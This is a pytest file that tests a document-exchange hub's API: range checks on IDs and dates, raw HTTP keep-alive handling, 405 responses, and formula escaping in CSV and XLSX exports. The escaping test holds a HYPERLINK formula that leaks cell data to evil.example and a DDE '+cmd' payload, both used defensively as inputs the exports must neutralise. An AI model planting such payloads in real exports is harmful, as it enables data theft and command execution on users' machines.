"""Typed, range-checked parameters (no 500 from a number or a date a client controls) and one
escaping rule for every spreadsheet export (issue 16, items 2 and 3). Against the real server,
on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import socket

import pytest
from openpyxl import load_workbook

from tests.hub.conftest import document

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def operator(live_hub):
    with live_hub.client(live_hub.staff_key("operator")) as c:
        yield c


def test_ids_past_64_bits_are_422(sender, operator):
    for cursor in (str(2**63), str(2**64 + 5), "9" * 19, "-1"):
        r = sender.http.get("/v1/inbox", params={"cursor": cursor})
        assert r.status_code == 422, (cursor, r.text)
    assert sender.http.get("/v1/inbox", params={"cursor": str(2**63 - 1)}).status_code == 200
    for job_ids in ([2**63], [0], [-3], ["x"]):
        r = operator.post("/v1/admin/deadletters/retry", json={"job_ids": job_ids})
        assert r.status_code == 422, (job_ids, r.text)
    r = operator.post("/v1/admin/deadletters/retry", json={"job_ids": [2**63 - 1]})
    assert r.status_code == 200 and r.json() == {"requeued": 0}


@pytest.mark.parametrize(
    "path", ["/v1/stats/agencies", "/v1/stats/documents", "/v1/stats/agencies/000.00.00.G22"]
)
def test_dates_outside_2000_2100_are_422_with_a_code(sender, operator, path):
    for params in (
        {"from": "9999-12-01", "to": "9999-12-31"},
        {"to": "9999-12-31"},
        {"from": "0001-01-01", "to": "0001-01-02"},
        {"from": "2100-12-31T20:00+00:00", "to": "2101-01-01T00:00"},
        {"from": "1999-12-31", "to": "2000-01-05"},
    ):
        r = operator.get(path, params=params)
        assert r.status_code == 422, (params, r.text)
        assert r.json()["error"] == "STATS_DATE_OUT_OF_RANGE", (params, r.text)
    assert operator.get(path, params={"from": "2026-01-01", "to": "2026-01-31"}).status_code == 200


def test_archive_search_dates_are_bounded(live_hub):
    with live_hub.client(live_hub.staff_key("archivist")) as c:
        assert c.get("/v1/archive/records", params={"from": "9999-12-31"}).status_code == 422
        assert c.get("/v1/archive/records", params={"to": "1900-01-01"}).status_code == 422
        assert c.get("/v1/archive/records", params={"from": "2024-01-01"}).status_code == 200


def test_delete_webhook_answers_204_without_a_body_on_a_kept_alive_connection(
    live_hub, sender, operator
):
    r = operator.put(f"/v1/admin/webhooks/{sender.code}", json={"url": "https://edoc.example/push"})
    assert r.status_code == 200, r.text
    # raw HTTP/1.1 on one socket: two requests, two complete answers, no stray bytes
    key = live_hub.staff_key("operator")
    host, port = live_hub.url.removeprefix("http://").split(":")
    request = (
        f"DELETE /v1/admin/webhooks/{sender.code} HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {key}\r\n\r\n"
        f"GET /v1/admin/webhooks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n\r\n"
    ).encode()
    with socket.create_connection((host, int(port)), timeout=10) as s:
        s.sendall(request)
        data = b""
        while data.count(b"HTTP/1.1 ") < 2 or not data.endswith(b"}"):
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    first, _, rest = data.partition(b"\r\n\r\n")
    assert first.startswith(b"HTTP/1.1 204"), data
    assert b"content-length" not in first.lower() or b"content-length: 0" in first.lower()
    assert rest.startswith(b"HTTP/1.1 200"), data  # the next answer follows at once
    assert b'"items":[]' in rest


def test_formula_subjects_are_neutral_in_csv_and_xlsx(sender, recipients, operator):
    body = document(subject=FORMULA, number="16")
    assert sender.send(body).status_code == 202
    assert sender.send(document(subject="+cmd|' /C calc'!A0", number="17")).status_code == 202
    assert sender.send(document(subject="Về việc họp giao ban", number="18")).status_code == 202
    for who in (operator, sender.http, recipients[0].http):
        r = who.get("/v1/stats/documents", params={"format": "csv"})
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        subjects = sorted({row["subject"] for row in rows})  # a row per recipient
        assert subjects == ["'+cmd|' /C calc'!A0", "'" + FORMULA, "Về việc họp giao ban"], who

        r = who.get("/v1/stats/documents", params={"format": "xlsx"})
        assert r.status_code == 200
        sheet = load_workbook(io.BytesIO(r.content))["documents"]
        header = [c.value for c in sheet[1]]
        column = header.index("subject")
        cells = [row[column] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)  # text, never a formula
        assert sorted({c.value for c in cells}) == subjects


def test_dashboard_csv_dates_are_bounded_too(live_hub, sender):
    from axis.service import users
    from tests.console.conftest import sign_in

    password = users.add_user(live_hub.hub.db, "van.thu", "clerk", sender.code)
    clerk = sign_in(live_hub, "van.thu", password)  # the dashboard is the console's
    try:
        r = clerk.get("/dashboard/documents.csv", params={"from": "9999-12-01"})
    finally:
        clerk.close()
    assert r.status_code == 422, r.text
    assert "STATS_DATE_OUT_OF_RANGE" in r.text


def test_options_and_other_methods_answer_405_with_allow(sender):
    for method, path in (("OPTIONS", "/v1/inbox"), ("TRACE", "/v1/messages"), ("PUT", "/healthz")):
        r = sender.http.request(method, path)
        assert r.status_code == 405, (method, path, r.text)
        assert r.headers["allow"], (method, path)
        assert r.json()["error"] == "HTTP_405"
